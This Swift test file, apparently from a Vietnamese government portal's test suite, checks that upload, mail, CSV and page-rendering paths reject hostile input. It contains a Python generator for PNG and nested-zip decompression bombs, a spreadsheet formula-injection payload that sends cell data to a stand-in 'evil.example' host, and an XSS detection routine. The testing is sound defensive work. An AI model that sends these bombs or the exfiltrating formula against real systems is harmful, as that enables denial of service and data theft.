            let asked = Self.bytesRequest("POST", f.feedback.url("/api/v1/questions"), headers: [
                "Content-Type": "multipart/form-data; boundary=\(Self.boundary)", "X-Forwarded-For": "203.0.113.\(Int.random(in: 1...250))",
            ], body: Self.multipart(fields: [("name", Array("Đỗ Văn Bảy".utf8)), ("email", Array("bay.bom.\(tag)@example.vn".utf8)), ("title", Array("Ảnh".utf8)),
                                             ("body", Array("Ảnh đính kèm".utf8)), ("consent", Array("dong-y".utf8))],
                                    files: [(#"form-data; name="attachment"; filename="anh.png""#, "image/png", bomb)]))
            #expect((400..<500).contains(asked.status ?? 0) && ["image_too_large", "invalid_attachment", "attachment_too_large"].contains(Self.errorCode(asked.body) ?? ""),
                    "feedback, a 50,000 × 50,000 PNG: \(asked.status ?? 0) \(asked.body.prefix(300))")

            // A zip bomb as a Word or Excel file: kept as it came, served as a download, never unpacked.
            let office = Self.bytesRequest("POST", s.intake.url("/api/v1/submissions"), headers: [
                "Authorization": "Bearer \(submitter)", "Content-Type": "multipart/form-data; boundary=\(Self.boundary)",
            ], body: Self.multipart(fields: [("title", Array("Kế hoạch".utf8)), ("body", Array("Tệp đính kèm.".utf8))], files: [
                (#"form-data; name="attachments"; filename="ke-hoach.docx""#, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", zip),
                (#"form-data; name="attachments"; filename="bang.xlsx""#, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", zip),
            ]))
            #expect(office.status == 202, "\(office.body.prefix(300))")
            let officeId = try #require(Self.object(office.body)["id"] as? String)
            try await eventually("queued", within: 20) { try s.api("GET", "/articles/\(officeId)", as: "btv.lan").status == 200 }
            let console = try ConsoleSession(s.approval, login: "btv.lan")
            let page = console.get("/console/articles/\(officeId)").body
            let link = try #require(page.firstMatch(of: #/href="(/console/articles/[^"]+/attachments/[0-9a-f]{64})"/#).map { String($0.output.1) })
            let download = console.get(link)
            #expect(download.status == 200 && download.headers["content-type"] == "application/octet-stream"
                    && download.headers["content-disposition"]?.hasPrefix("attachment") == true, "\(download.headers)")
            #expect(download.headers["content-length"] == String(zip.count), "the bytes as sent, not unpacked: \(download.headers["content-length"] ?? "?")")

            // An email of 10,000 parts: held for the editors with a reason, not an item of 10,000 files.
            _ = try python(["parts", "\(s.work)/parts.eml", "10000"])
            let parts = try s.env.run("/usr/bin/env", ["python3", "\(s.work)/client.py", String(s.intake.lmtpPort), "lmtp", "\(s.work)/parts.eml"])
            #expect(parts.output.hasPrefix("250") && parts.output.contains("Kept for review"), "10,000 parts: \(parts.output)")
            do {
                let id = try #require(parts.output.split(separator: " ").last.flatMap({ UUID(uuidString: $0.trimmingCharacters(in: .whitespacesAndNewlines)) }),
                                      "the held message's id: \(parts.output)")
                let files = try await s.pool.withConnection {
                    try $0.query("SELECT count(*)::int AS n FROM intake.attachments WHERE submission_id = $1", [id]).one().decode("n", as: Int.self)
                }
                #expect(files == 0, "no submission of \(files) files")
                // Nor does an editor's release make one: refused with a code that says what to do.
                try await eventually("the held message reaches the editors", within: 20) {
                    try await s.pool.withConnection {
                        try $0.query("SELECT 1 FROM editorial.quarantine WHERE id = $1", [id]).rows.count == 1
                    }
                }
                let released = try s.api("POST", "/quarantine/\(id.uuidString.lowercased())/release", as: "btv.lan", body: #"{"unit": "department-sotuphap"}"#)
                #expect(released.status == 422 && s.errorCode(released) == "held_message_too_large", "\(released.text.prefix(300))")
                let made = try await s.pool.withConnection {
                    try $0.query("SELECT count(*)::int AS n FROM editorial.articles WHERE quarantine_id = $1", [id]).one().decode("n", as: Int.self)
                }
                #expect(made == 0, "no item of 10,000 files from the release")
            }
            // 10,000 attachments by the API: refused with a code.
            let many = (0..<10_000).map { ["filename": "p\($0).bin", "contentType": "application/octet-stream", "dataBase64": "eA=="] }
            let tooMany = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth,
                                      body: Self.json(["title": "Mười nghìn tệp", "body": "Nội dung.", "attachments": many]))
            #expect((400..<500).contains(tooMany.status ?? 0) && (Self.errorCode(tooMany.body) ?? "").contains("attachments"),
                    "10,000 attachments: \(tooMany.status ?? 0) \(tooMany.body.prefix(300))")
            // 10,000 nested multiparts: held as broken MIME.
            _ = try python(["nested", "\(s.work)/nested.eml", "10000"])
            let nested = try s.env.run("/usr/bin/env", ["python3", "\(s.work)/client.py", String(s.intake.lmtpPort), "lmtp", "\(s.work)/nested.eml"])
            #expect(nested.output.contains("Kept for review (malformed_mime)"), "10,000 nested parts: \(nested.output)")
            // 5 MB of text as the body of one news item: refused with a code, not carried through the bus and the pages.
            let long = Self.bytesRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth,
                                         body: Array(Self.json(["title": "Rất dài", "body": String(repeating: "Nội dung dài. ", count: 400_000)]).utf8))
            #expect((400..<500).contains(long.status ?? 0) && ["body_too_long", "payload_too_large"].contains(Self.errorCode(long.body) ?? ""),
                    "5 MB of body text: \(long.status ?? 0) \(long.body.prefix(300))")

            for service in [s.intake, s.approval, f.publishing, f.feedback] {
                #expect(service.isRunning && httpRequest("GET", service.url("/healthz")).status == 200, "\(service.name) still runs")
            }
        }
    }

    // MARK: Spreadsheets

    @Test("R-4.8: the monthly royalty report's CSV never hands a spreadsheet a formula from an author's name or a title (= + - @ start a cell as text), as the comments' CSV already does")
    func royaltyCSVHasNoFormula() async throws {
        try await FeedbackFlowTests().withServices { f in
            let s = f.s
            let finance = try ServiceProcess("finance", port: Self.financePort, environment: [:], in: s.env)
            do {
                try await finance.waitUntilReady()
                // This month's report may already be submitted by an earlier test, and a royalty
                // then goes to next month's: the report is made again, from the ledger, which
                // keeps every entry, before the item is published.
                let month = String(PortalTestCalendar.localDateTime(Date()).prefix(7))
                try await s.pool.withConnection { connection in
                    try connection.query("DELETE FROM finance.report_steps WHERE month = $1", [month])
                    try connection.query("DELETE FROM finance.reports WHERE month = $1", [month])
                }
                let tag = UUID().uuidString.prefix(6).lowercased()
                let author = #"=HYPERLINK("http://evil.example/?d="&A1,"Xem \#(tag)")"#
                // The unit names the author, the editor keeps the name in the classification the royalty follows.
                _ = try await Self.approved(s, submission: ["title": "+1+1 Tin \(tag)", "body": "Nội dung.", "targetSites": ["longan.gov.vn"],
                                                            "authors": [["name": author, "share": 100]]],
                                            classification: ["authors": [["name": author, "share": 100]], "targetSites": ["longan.gov.vn"]])
                let token = try IntakeAPITests().token("ketoan.mai", s.env)
                try await eventually("finance posts the royalty", within: 60) {
                    try await s.pool.withConnection {
                        try $0.query("SELECT count(*)::int AS n FROM finance.ledger WHERE title LIKE '%' || $1 || '%'", [String(tag)]).one().decode("n", as: Int.self)
                    } > 0
                }
                #expect(httpRequest("POST", finance.url("/api/v1/royalties/\(month)/generate"), headers: ["Authorization": "Bearer \(token)"]).status == 201)
                for view in ["authors", "entries"] {
                    let csv = httpRequest("GET", finance.url("/api/v1/royalties/\(month)?format=csv&view=\(view)"), headers: ["Authorization": "Bearer \(token)"])
                    #expect(csv.status == 200)
                    let cells = Self.csvCells(csv.body).filter { $0.contains(tag) }
                    #expect(!cells.isEmpty, "\(view): our row is in the report")
                    for cell in cells {
                        #expect(!(cell.first.map { "=+-@".contains($0) } ?? false), "\(view): a cell starts as a formula: \(cell)")
                    }
                }
            } catch {
                _ = try? await finance.terminate()
                throw error
            }
            #expect(try await finance.terminate() == 0)
        }
    }

    // MARK: Helpers

    /// A draft for comment through the real flow (intake, approval, publishing, feedback), open today; its id.
    static func publishedDraft(_ f: FeedbackFlowTests.Services) async throws -> String {
        let closes = String(PortalTestCalendar.localDateTime(Date().addingTimeInterval(30 * 86_400)).prefix(10))
        let opens = String(PortalTestCalendar.localDateTime(Date().addingTimeInterval(-86_400)).prefix(10))
        let title = "Dự thảo Quy chế \(UUID().uuidString.prefix(4))"
        let id = try await approved(f.s, submission: [
            "title": title, "kind": "draft_for_comment", "body": "Điều 1. Phạm vi.\n\nĐiều 2. Đối tượng.", "targetSites": ["longan.gov.vn"],
            "draft": ["opensOn": opens, "closesOn": closes],
        ], classification: ["targetSites": ["longan.gov.vn"]])
        try await eventually("the draft is open for comment", within: 30) {
            httpRequest("GET", f.feedback.url("/hoi-dap/y-kien/\(id)"), headers: ["Host": "longan.gov.vn"]).status == 200
        }
        return id
    }

    /// Submitted by Sở Tư pháp's collaborator, classified by an editor (`classification` over a news item
    /// of coefficient 5 by one author), approved by the Board member leading Sở Tư pháp (R-1.1); its id.
    static func approved(_ s: EditorialFlowTests.Services, submission: [String: Any], classification: [String: Any]) async throws -> String {
        let created = httpRequest("POST", s.intake.url("/api/v1/submissions"),
                                  headers: ["Authorization": "Bearer \(try s.token("ctv.tuphap"))", "Content-Type": "application/json"], body: json(submission))
        let id = try #require(object(created.body)["id"] as? String, "\(created.body)")
        try await eventually("\(id) reaches the editors", within: 20) { try s.api("GET", "/articles/\(id)", as: "btv.lan").status == 200 }
        let fields: [String: Any] = ["genre": "news", "coefficient": 5, "authors": [["name": "Nguyễn Văn An", "share": 100]]].merging(classification) { $1 }
        let edited = try s.api("PUT", "/articles/\(id)", as: "btv.lan", body: json(["classification": fields, "changeNote": "Phân loại"]),
                               headers: ["If-Match": "\"1\""])
        #expect(edited.status == 200, "\(edited.text)")
        #expect(try s.api("POST", "/articles/\(id)/submit-for-approval", as: "btv.lan", body: "{}").status == 200)
        let approval = try s.api("POST", "/articles/\(id)/approve", as: "gd.tuphap", body: #"{"revision": 2}"#)
        #expect(approval.status == 200, "\(approval.text)")
        return id
    }

    static func json(_ value: Any) -> String {
        String(decoding: try! JSONSerialization.data(withJSONObject: value, options: [.sortedKeys]), as: UTF8.self)
    }

    static func object(_ text: String) -> [String: Any] {
        (try? JSONSerialization.jsonObject(with: Data(text.utf8))) as? [String: Any] ?? [:]
    }

    static func errorCode(_ text: String) -> String? {
        (object(text)["error"] as? [String: Any])?["code"] as? String
    }

    static func answer(_ response: (status: Int?, body: String, headers: [String: String])) -> Answer {
        (response.status, response.body, response.headers, [])
    }

    static func percentEncoded(_ text: String) -> String {
        var allowed = CharacterSet.alphanumerics
        allowed.insert(charactersIn: "-._~")
        return text.addingPercentEncoding(withAllowedCharacters: allowed) ?? text
    }

    static let boundary = "----hostileInputB0undary"

    /// A multipart/form-data body from raw bytes: text fields, then file parts with their Content-Disposition as given.
    static func multipart(fields: [(String, [UInt8])], rawFiles files: [(disposition: [UInt8], type: String, bytes: [UInt8])]) -> [UInt8] {
        var body = [UInt8]()
        for (name, value) in fields {
            body += Array("--\(boundary)\r\nContent-Disposition: form-data; name=\"\(name)\"\r\n\r\n".utf8) + value + Array("\r\n".utf8)
        }
        for file in files {
            body += Array("--\(boundary)\r\nContent-Disposition: ".utf8) + file.disposition + Array("\r\nContent-Type: \(file.type)\r\n\r\n".utf8)
                + file.bytes + Array("\r\n".utf8)
        }
        return body + Array("--\(boundary)--\r\n".utf8)
    }

    static func multipart(fields: [(String, [UInt8])], files: [(disposition: String, type: String, bytes: [UInt8])] = []) -> [UInt8] {
        multipart(fields: fields, rawFiles: files.map { (Array($0.disposition.utf8), $0.type, $0.bytes) })
    }

    /// Any request whose body is raw bytes (invalid UTF-8, binary form parts), through curl as `httpRequest`
    /// sends it; every Set-Cookie kept.
    static func bytesRequest(_ method: String, _ url: String, headers: [String: String] = [:], body: [UInt8]? = nil) -> Answer {
        let scratch = NSTemporaryDirectory() + "portal-hostile-\(UUID().uuidString)"
        defer { ["", ".body", ".headers", ".code"].forEach { try? FileManager.default.removeItem(atPath: scratch + $0) } }
        var arguments = ["-s", "-g", "--max-time", "60", "-X", method, "-o", scratch + ".body", "-D", scratch + ".headers", "-w", "%{http_code}", url]
        for (name, value) in headers { arguments += ["-H", "\(name): \(value)"] }
        if let body {
            _ = FileManager.default.createFile(atPath: scratch, contents: Data(body))
            arguments += ["--data-binary", "@" + scratch]
        }
        guard spawnAndWait("/usr/bin/curl", arguments, output: scratch + ".code") != nil else { return (nil, "curl did not start", [:], []) }
        let code = (try? String(contentsOfFile: scratch + ".code", encoding: .utf8)) ?? ""
        let data = FileManager.default.contents(atPath: scratch + ".body") ?? Data()
        let responseBody = String(decoding: data, as: UTF8.self)
        var responseHeaders = [String: String](), cookies = [String]()
        for line in ((try? String(contentsOfFile: scratch + ".headers", encoding: .utf8)) ?? "").split(separator: "\r\n") {
            guard let colon = line.firstIndex(of: ":") else { continue }
            let name = line[..<colon].lowercased(), value = line[line.index(after: colon)...].trimmingCharacters(in: .whitespaces)
            responseHeaders[name] = value
            if name == "set-cookie", let pair = value.split(separator: ";").first { cookies.append(String(pair)) }
        }
        guard let status = Int(code), status > 0 else { return (nil, responseBody, responseHeaders, cookies) }
        return (status, responseBody, responseHeaders, cookies)
    }

    /// The cells of a CSV text (RFC 4180 quoting), all rows together.
    static func csvCells(_ text: String) -> [String] {
        var cells = [String](), cell = "", quoted = false
        let scalars = Array(text.unicodeScalars.drop { $0 == "\u{FEFF}" })
        var index = 0
        while index < scalars.count {
            let scalar = scalars[index]
            if quoted {
                if scalar == "\"" {
                    if index + 1 < scalars.count, scalars[index + 1] == "\"" {
                        cell.unicodeScalars.append(scalar)
                        index += 1
                    } else {
                        quoted = false
                    }
                } else {
                    cell.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" {
                quoted = true
            } else if scalar == "," || scalar == "\n" {
                cells.append(cell)
                cell = ""
            } else if scalar != "\r" {
                cell.unicodeScalars.append(scalar)
            }
            index += 1
        }
        if !cell.isEmpty { cells.append(cell) }
        return cells
    }

    /// Makes the bombs and the mails of 10,000 parts, small on disk.
    static let bombScript = #"""
        import io, struct, sys, zipfile, zlib
        from email.utils import make_msgid
        what, out = sys.argv[1], sys.argv[2]
        def chunk(kind, data):
            return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)
        if what == "png":
            # 50,000 x 50,000 pixels of one bit: 312 MB of rows, a few hundred KB compressed.
            width = height = 50000
            row = b"\x00" * (1 + (width + 7) // 8)
            compressor = zlib.compressobj(9)
            data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
            png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
            open(out, "wb").write(png)
        elif what == "zip":
            # Zips in zips: 100 MB of zeros, 16 of those, 16 of those: 25 GB unpacked, some 12 KB packed.
            def pack(entries):
                buffer = io.BytesIO()
                with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
                    for name, data in entries:
                        archive.writestr(name, data)
                return buffer.getvalue()
            inner = pack([("word/document.xml", b"\0" * (100 * 1024 * 1024))])
            middle = pack([("%d.zip" % i, inner) for i in range(16)])
            types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
            open(out, "wb").write(pack([("[Content_Types].xml", types)] + [("word/media/%d.zip" % i, middle) for i in range(16)]))
        elif what in ("parts", "nested"):
            count = int(sys.argv[3])
            lines = ["From: Nguyen Van An <nvan@sotuphap.longan.gov.vn>", "To: webmaster@longan.gov.vn", "Subject: [Tin] Thu %d phan" % count,
                     "Message-ID: " + make_msgid(domain="sotuphap.longan.gov.vn"), "MIME-Version: 1.0"]
            if what == "parts":
                lines += ['Content-Type: multipart/mixed; boundary="p"', "", "--p", "Content-Type: text/plain; charset=utf-8", "", "Noi dung."]
                for i in range(count):
                    lines += ["--p", "Content-Type: application/octet-stream", 'Content-Disposition: attachment; filename="p%d.bin"' % i, "", "x"]
                lines += ["--p--", ""]
            else:
                for i in range(count):
                    lines += ['Content-Type: multipart/mixed; boundary="b%d"' % i, "", "--b%d" % i]
                lines += ["Content-Type: text/plain", "", "deep"] + ["--b%d--" % i for i in reversed(range(count))] + [""]
            open(out, "w").write("\n".join(lines))
        """#
}

/// A signed-in editor in the approval console: the sign-in form's token and cookie, then the session cookie.
struct ConsoleSession {
    let base: String
    let cookie: String

    init(_ approval: ServiceProcess, login: String) throws {
        base = approval.url("")
        let password = ProcessInfo.processInfo.environment["PORTAL_DEMO_PASSWORD"] ?? "longan-demo-2026"
        let address = "198.51.100.\(Int.random(in: 1...250))"
        let form = HostileInputTests.bytesRequest("GET", approval.url("/console/login"), headers: ["X-Forwarded-For": address])
        let loginCookie = try #require(form.cookies.first { $0.hasPrefix("portal_login_csrf=") }, "\(form.headers)")
        let token = try #require(form.body.firstMatch(of: #/name="_csrf" value="([^"]+)"/#).map { String($0.output.1) })
        let signedIn = HostileInputTests.bytesRequest("POST", approval.url("/console/login"), headers: [
            "Content-Type": "application/x-www-form-urlencoded", "Cookie": loginCookie, "X-Forwarded-For": address,
        ], body: Array("_csrf=\(token)&login=\(login)&password=\(StaffSession.encode(password))".utf8))
        cookie = try #require(signedIn.cookies.first { $0.hasPrefix("portal_session=") }, "signed in as \(login): \(signedIn.status ?? 0) \(signedIn.body.prefix(200))")
    }

    func get(_ path: String) -> HostileInputTests.Answer {
        HostileInputTests.bytesRequest("GET", base + path, headers: ["Cookie": cookie])
    }
}

/// What in a page would run in a browser: elements that carry script (`script` or `style` whose text calls
/// `alert(`, `iframe`, `object`, `embed`, `base`, `svg`, `math`), event-handler attributes (`on…`), script
/// URLs (`javascript:`, `vbscript:`, `data:text/html`) in URL attributes after character references are
/// decoded, and `expression(` in a style. Tags are read with their quoted attribute values, so escaped
/// text inside an attribute (`alt="&lt;img onerror=…&gt;"`) is text, as a browser reads it.
enum ExecutableMarkup {
    static let activeElements: Set<String> = ["iframe", "object", "embed", "base", "svg", "math", "frame", "frameset", "applet"]
    static let urlAttributes: Set<String> = ["href", "src", "action", "formaction", "data", "background", "poster", "srcset", "xlink:href", "lowsrc", "dynsrc"]

    static func find(in html: String) -> [String] {
        var found = [String]()
        let text = Array(html.unicodeScalars)
        var index = 0
        func at(_ position: Int, _ literal: String) -> Bool {
            let scalars = Array(literal.unicodeScalars)
            guard position + scalars.count <= text.count else { return false }
            return (0..<scalars.count).allSatisfy { String(text[position + $0]).lowercased() == String(scalars[$0]).lowercased() }
        }
        func isNameCharacter(_ scalar: Unicode.Scalar) -> Bool {
            scalar.properties.isAlphabetic || ("0"..."9").contains(scalar) || scalar == "-" || scalar == ":" || scalar == "_"
        }
        while index < text.count {
            guard text[index] == "<" else { index += 1; continue }
            if at(index, "<!--") {
                var end = index + 4
                while end < text.count, !at(end, "-->") { end += 1 }
                index = end + 3
                continue
            }
            var cursor = index + 1
            let closing = cursor < text.count && text[cursor] == "/"
            if closing { cursor += 1 }
            var name = ""
            while cursor < text.count, isNameCharacter(text[cursor]) { name.unicodeScalars.append(text[cursor]); cursor += 1 }
            name = name.lowercased()
            guard !name.isEmpty, name.unicodeScalars.first?.properties.isAlphabetic == true else { index += 1; continue }
            var attributes = [(String, String)]()
            while cursor < text.count, text[cursor] != ">" {
                if text[cursor].properties.isWhitespace || text[cursor] == "/" { cursor += 1; continue }
                let start = cursor
                var attribute = ""
                while cursor < text.count, !text[cursor].properties.isWhitespace, text[cursor] != "=", text[cursor] != ">", text[cursor] != "/" {
                    attribute.unicodeScalars.append(text[cursor])
                    cursor += 1
                }
                while cursor < text.count, text[cursor].properties.isWhitespace { cursor += 1 }
                var value = ""
                if cursor < text.count, text[cursor] == "=" {
                    cursor += 1
                    while cursor < text.count, text[cursor].properties.isWhitespace { cursor += 1 }
                    if cursor < text.count, text[cursor] == "\"" || text[cursor] == "'" {
                        let quote = text[cursor]
                        cursor += 1
                        while cursor < text.count, text[cursor] != quote { value.unicodeScalars.append(text[cursor]); cursor += 1 }
                        cursor += 1
                    } else {
                        while cursor < text.count, !text[cursor].properties.isWhitespace, text[cursor] != ">" {
                            value.unicodeScalars.append(text[cursor])
                            cursor += 1
                        }
                    }
                }
                if !attribute.isEmpty { attributes.append((attribute.lowercased(), value)) }
                if cursor == start { cursor += 1 }
            }
            index = cursor + 1
            if closing { continue }
            if activeElements.contains(name) { found.append("<\(name)>") }
            let refresh = name == "meta" && attributes.contains { $0.0 == "http-equiv" && $0.1.lowercased() == "refresh" }
            for (attribute, value) in attributes {
                if attribute.hasPrefix("on") { found.append("<\(name) \(attribute)=\"\(value.prefix(60))\">") }
                let url = String(decode(value).unicodeScalars.filter { $0.value > 0x20 }).lowercased()
                if urlAttributes.contains(attribute) || (refresh && attribute == "content") {
                    if url.contains("javascript:") || url.contains("vbscript:") || url.hasPrefix("data:text/html") {
                        found.append("<\(name) \(attribute)=\"\(value.prefix(60))\">")
                    }
                }
                if attribute == "style", url.contains("expression(") || url.contains("javascript:") {
                    found.append("<\(name) style=\"\(value.prefix(60))\">")
                }
            }
            if name == "script" || name == "style" {
                var end = index
                while end < text.count, !at(end, "</\(name)") { end += 1 }
                let content = String(String.UnicodeScalarView(text[index..<min(end, text.count)]))
                if content.contains("alert(") { found.append("<\(name)>\(content.prefix(60))") }
                index = end
            }
        }
        return found
    }

    /// Character references as a browser decodes them in an attribute: numeric ones and the few named
    /// ones used to hide a scheme.
    static func decode(_ value: String) -> String {
        guard value.contains("&") else { return value }
        var result = ""
        var rest = Substring(value)
        while let ampersand = rest.firstIndex(of: "&") {
            result += rest[..<ampersand]
            rest = rest[ampersand...]
            if let match = rest.prefixMatch(of: #/&#([xX]?)([0-9a-fA-F]+);?/#) {
                let number = UInt32(match.output.2, radix: match.output.1.isEmpty ? 10 : 16)
                result += number.flatMap { Unicode.Scalar($0) }.map { String(Character($0)) } ?? ""
                rest = rest[match.range.upperBound...]
                continue
            }
            let named: [(String, String)] = [("&colon;", ":"), ("&tab;", "\t"), ("&newline;", "\n"), ("&amp;", "&"), ("&quot;", "\""),
                                             ("&lt;", "<"), ("&gt;", ">"), ("&#39;", "'"), ("&apos;", "'")]
            if let (entity, character) = named.first(where: { rest.lowercased().hasPrefix($0.0) }) {
                result += character
                rest = rest.dropFirst(entity.count)
                continue
            }
            result += "&"
            rest = rest.dropFirst()
        }
        return result + rest
    }
}
